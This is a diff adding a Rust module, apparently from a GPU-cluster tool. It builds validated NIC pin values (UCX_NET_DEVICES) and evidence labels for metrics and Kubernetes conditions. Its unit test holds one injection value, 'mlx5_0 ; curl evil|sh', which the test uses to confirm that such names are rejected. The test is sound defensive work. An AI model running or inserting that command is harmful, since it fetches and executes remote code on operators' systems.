@@ -1,0 +1,105 @@
+//! The NIC to pin a GPU's process to: a value, not text.
+//!
+//! The runbook tells operators to apply a pin as it is shown, and it becomes a metric label and
+//! a Kubernetes condition's words; so a [`Pin`] exists only for a NIC that is a device name
+//! (`[A-Za-z0-9_.:-]{1,64}`, the grammar ingest holds every NIC name to) and one of the NICs of
+//! the node's own latest topology. Everything that shows it (the reasons, the API, the label,
+//! the condition) is made from the value, with what it was verified by said alongside
+//! ([`PinEvidence`]), never parsed back out of a sentence.
+
+use std::fmt;
+
+use serde::Serialize;
+
+/// What the pinned NIC's good verdicts were proven in.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
+#[serde(rename_all = "snake_case")]
+pub enum PinEvidence {
+    /// Verified probes in GPU memory: the workload's own path.
+    GpuMemory,
+    /// Verified in host memory only: its GPU-memory path is unproven.
+    HostMemory,
+    /// Verified only on the simulated fabric.
+    Simulated,
+    /// No verdict yet: the NIC is structurally safe (through the root complex), nothing more.
+    Unprobed,
+}
+
+impl PinEvidence {
+    /// The metric label value.
+    pub fn as_str(self) -> &'static str {
+        match self {
+            PinEvidence::GpuMemory => "gpu_memory",
+            PinEvidence::HostMemory => "host_memory",
+            PinEvidence::Simulated => "simulated",
+            PinEvidence::Unprobed => "unprobed",
+        }
+    }
+
+    /// What the pin's sentence adds after it, if anything.
+    fn qualifier(self) -> Option<&'static str> {
+        match self {
+            PinEvidence::GpuMemory => None,
+            PinEvidence::HostMemory => Some("verified in host memory only: its GPU-memory path is unproven"),
+            PinEvidence::Simulated => Some("verified on the simulated fabric, not on hardware"),
+            PinEvidence::Unprobed => Some("not yet verified by a probe"),
+        }
+    }
+}
+
+/// `UCX_NET_DEVICES=<nic>:1` for one GPU's process.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Pin {
+    nic: String,
+    pub evidence: PinEvidence,
+}
+
+impl Pin {
+    /// The pin to `nic`, if `nic` is a device name and one of `node_nics` (the node's latest
+    /// topology's NICs).
+    pub fn new(nic: &str, evidence: PinEvidence, node_nics: &[String]) -> Option<Pin> {
+        (railguard_schema::convert::is_device_name(nic) && node_nics.iter().any(|n| n == nic))
+            .then(|| Pin { nic: nic.to_owned(), evidence })
+    }
+
+    pub fn nic(&self) -> &str {
+        &self.nic
+    }
+}
+
+impl fmt::Display for Pin {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        write!(f, "UCX_NET_DEVICES={}:1", self.nic)?;
+        if let Some(q) = self.evidence.qualifier() {
+            write!(f, " ({q})")?;
+        }
+        Ok(())
+    }
+}
+
+impl Serialize for Pin {
+    fn serialize<S: serde::Serializer>(&self, s: S) -> Result<S::Ok, S::Error> {
+        s.collect_str(self)
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn a_pin_is_only_ever_one_of_the_node_s_own_nics() {
+        let nics = vec!["mlx5_0".to_owned(), "mlx5_1".to_owned()];
+        let p = Pin::new("mlx5_1", PinEvidence::GpuMemory, &nics).unwrap();
+        assert_eq!(p.to_string(), "UCX_NET_DEVICES=mlx5_1:1");
+        assert_eq!(
+            Pin::new("mlx5_0", PinEvidence::Unprobed, &nics).unwrap().to_string(),
+            "UCX_NET_DEVICES=mlx5_0:1 (not yet verified by a probe)"
+        );
+        // Not the node's, or not a device name at all (even if the topology said so).
+        assert!(Pin::new("mlx5_7", PinEvidence::GpuMemory, &nics).is_none());
+        let odd = vec!["mlx5_0 ; curl evil|sh".to_owned()];
+        assert!(Pin::new("mlx5_0 ; curl evil|sh", PinEvidence::GpuMemory, &odd).is_none());
+        assert!(Pin::new("", PinEvidence::GpuMemory, &[String::new()]).is_none());
+    }
+}
